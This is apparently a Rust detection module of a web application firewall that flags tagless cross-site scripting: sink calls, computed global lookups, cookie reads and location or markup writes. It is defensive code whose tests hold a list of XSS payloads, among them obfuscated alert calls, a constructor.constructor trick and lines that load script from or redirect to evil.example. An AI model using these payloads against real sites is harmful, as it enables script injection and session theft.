//! JavaScript that runs without a tag: a call of an execution sink, or a sink reached
//! through the language's indirections, in a value that lands in a script context
//! (an event handler, an inline script, `eval`).
//!
//! Sinks are the functions that show an attack worked (`alert`, `confirm`, `prompt`,
//! `print`) or run a string as code (`eval`, `Function`, `setTimeout`, `setInterval`,
//! `execScript`, `import`). A sink counts when it is *called* — `alert(1)`, `` alert`1` ``,
//! `(alert)(1)`, `alert.call(null,1)`, `[1].find(alert)`, `top['al'+'ert'](1)` — with an
//! argument a script would pass (a number, a string, a template, an expression, nothing),
//! not "the prompt(s) we use" or "an alert (red)". Property writes that navigate or steal
//! (`location=`, `document.cookie`, `.innerHTML=`) count as sinks too.

use super::Detection;

/// (`print` counts called with nothing, as XSS proofs call it, or after an operator that
/// broke out of a string (`"-print(1)-"`), not `print(x)` as Python code in any text does; `function` only as the constructor invoked at once,
/// `Function('code')()`.)
const SINKS: &[&[u8]] = &[
    b"alert",
    b"confirm",
    b"prompt",
    b"print",
    b"eval",
    b"function",
    b"settimeout",
    b"setinterval",
    b"execscript",
    b"import",
];

/// Objects through which a sink is reached by name: `window['alert']`, `top[x]`.
const GLOBALS: &[&[u8]] = &[
    b"window",
    b"top",
    b"self",
    b"parent",
    b"frames",
    b"globalthis",
    b"this",
];

fn ident_at(s: &[u8], at: usize) -> &[u8] {
    let len = s[at..]
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'$'))
        .count();
    &s[at..at + len]
}

fn skip_space(s: &[u8], mut at: usize) -> usize {
    while s.get(at).is_some_and(|b| b.is_ascii_whitespace()) {
        at += 1;
    }
    at
}

/// Whether the argument list opening at `s[at] == b'('` is one a script would pass: empty,
/// a number, a string or template, a global, an expression with an operator or a call.
fn scripted_arguments(s: &[u8], at: usize) -> bool {
    let a = skip_space(s, at + 1);
    match s.get(a) {
        Some(b')') => true,
        Some(
            b'0'..=b'9' | b'\'' | b'"' | b'`' | b'/' | b'[' | b'{' | b'(' | b'-' | b'!' | b'+',
        ) => true,
        Some(c) if c.is_ascii_alphabetic() || *c == b'_' || *c == b'$' => {
            let word = ident_at(s, a).to_ascii_lowercase();
            let after = skip_space(s, a + word.len());
            GLOBALS.contains(&word.as_slice())
                || matches!(
                    word.as_slice(),
                    b"document" | b"location" | b"null" | b"atob" | b"string"
                )
                || matches!(s.get(after), Some(b'.' | b'(' | b'[' | b'+'))
        }
        _ => false,
    }
}

/// Whether the argument list opening at `s[at] == b'('` is followed at once by another call:
/// `Function('code')()` runs the code; `function (x) {..}` only declares.
fn invoked_at_once(s: &[u8], at: usize) -> bool {
    let mut depth = 0usize;
    for (k, &b) in s[at..].iter().enumerate().take(4096) {
        match b {
            b'(' => depth += 1,
            b')' => {
                depth -= 1;
                if depth == 0 {
                    return s.get(skip_space(s, at + k + 1)) == Some(&b'(');
                }
            }
            _ => {}
        }
    }
    false
}

/// Finds a sink call in `input` (the `decoded` form).
pub fn detect(input: &[u8]) -> Option<Detection> {
    let lower = input.to_ascii_lowercase();
    let s = lower.as_slice();
    let found = |at: usize, len: usize, why| Some(Detection { at, len, why });
    for (at, _) in s
        .iter()
        .enumerate()
        .filter(|(_, b)| b.is_ascii_alphabetic())
    {
        if at > 0 && (s[at - 1].is_ascii_alphanumeric() || matches!(s[at - 1], b'_' | b'$')) {
            continue;
        }
        let word = ident_at(s, at);
        let end = at + word.len();
        let next = skip_space(s, end);
        if SINKS.contains(&word) {
            // `alert(1)`, `alert`1``, `(alert)(1)`, `alert.call(..)`, `.find(alert)`.
            let called = match s.get(next) {
                Some(b'(') if word == b"function" => invoked_at_once(s, next),
                Some(b'(') if word == b"print" => {
                    let after_operator = s[..at]
                        .iter()
                        .rev()
                        .find(|b| !b.is_ascii_whitespace())
                        .is_some_and(|b| b"-+*/;,=(&|?:".contains(b));
                    s.get(skip_space(s, next + 1)) == Some(&b')')
                        || after_operator && scripted_arguments(s, next)
                }
                Some(b'(') => scripted_arguments(s, next),
                // A tagged template: `` alert`1` ``; `function` before a backquote is prose
                // quoting code ("the function `f`").
                Some(b'`') => word != b"function",
                Some(b')') => {
                    let open = s[..at].iter().rposition(|b| !b.is_ascii_whitespace());
                    let after = skip_space(s, next + 1);
                    open.is_some_and(|o| s[o] == b'(') && s.get(after) == Some(&b'(')
                        || open.is_some_and(|o| {
                            s[..o].ends_with(b"find")
                                || s[..o].ends_with(b"map")
                                || s[..o].ends_with(b"then")
                                || s[..o].ends_with(b"foreach")
                        })
                }
                Some(b'.') => {
                    let m = ident_at(s, skip_space(s, next + 1));
                    matches!(m, b"call" | b"apply" | b"bind")
                }
                _ => false,
            };
            if called {
                return found(at, end - at, "a JavaScript sink called");
            }
        }
        if GLOBALS.contains(&word) && s.get(next) == Some(&b'[') {
            // `top['al'+'ert'](1)`, `window[atob('YWxlcnQ=')]()`.
            let close = s[next..s.len().min(next + 256)]
                .iter()
                .position(|b| *b == b']')
                .map(|p| p + next);
            if let Some(close) = close {
                let call = skip_space(s, close + 1);
                if s.get(call) == Some(&b'(')
                    && matches!(
                        s.get(skip_space(s, next + 1)),
                        Some(b'\'' | b'"' | b'`' | b'a'..=b'z')
                    )
                {
                    return found(
                        at,
                        call - at,
                        "a global looked up by a computed name and called",
                    );
                }
            }
        }
        if word == b"document" && s.get(next) == Some(&b'.') {
            let p = ident_at(s, skip_space(s, next + 1));
            if matches!(
                p,
                b"cookie" | b"domain" | b"write" | b"writeln" | b"location"
            ) {
                return found(
                    at,
                    next + 1 + p.len() - at,
                    "a document property scripts steal or write through",
                );
            }
        }
        if matches!(word, b"location" | b"innerhtml" | b"outerhtml" | b"srcdoc") {
            let assign = s.get(next) == Some(&b'=') && s.get(next + 1) != Some(&b'=');
            let dotted = s[..at].iter().rev().find(|b| !b.is_ascii_whitespace()) == Some(&b'.');
            if assign && (dotted || word == b"location") {
                return found(at, next + 1 - at, "a navigation or markup write");
            }
        }
        if word == b"constructor"
            && s.get(next) == Some(&b'.')
            && ident_at(s, skip_space(s, next + 1)) == b"constructor"
        {
            return found(
                at,
                end - at,
                "the Function constructor reached through constructor.constructor",
            );
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::waf::detect::expect;

    #[test]
    fn sinks_called_without_tags_are_found() {
        expect::finds(
            detect,
            &[
                "alert(1)",
                "';alert(String.fromCharCode(88))//",
                "(alert)(1)",
                "confirm.call(null,1)",
                "[1].find(alert)",
                "top['al'+'ert'](1)",
                "window[atob('YWxlcnQ=')]()",
                "alert`1`",
                "prompt(document.domain)",
                "eval(atob('YWxlcnQoMSk='))",
                "setTimeout('alert(1)')",
                "Function('alert(1)')()",
                "x=document.cookie",
                "location='//evil.example'",
                "a.innerHTML='<img>'",
                "[].constructor.constructor('alert(1)')()",
                "import('//evil.example/x.js')",
                "print()",
                "(print)(1)",
                "\"-print(1)-\"",
                "self['alert'](1)",
            ],
        );
    }

    #[test]
    fn sink_words_in_prose_are_left_alone() {
        expect::passes(
            detect,
            &[
                "the prompt(s) we use",
                "an alert (red) appears",
                "Print your ticket",
                "confirm your e-mail address",
                "the function of this button",
                "evaluate(options) later",
                "set a location for the event",
                "my top[3] picks",
                "import data from CSV",
                "alert me when it ships",
                "document.pdf is attached",
                "an output function (`out) can be passed",
                "print(script_from_examples(text))",
                "then print('hello') twice",
                "the module-level function `IS_LINE_JUNK` may be used",
                "function (x) { return x; }",
            ],
        );
    }

    #[test]
    fn hostile_input_is_bounded() {
        expect::bounded(
            detect,
            &[
                "top[".repeat(30_000),
                "alert(".repeat(20_000),
                "(".repeat(100_000),
            ],
        );
    }
}
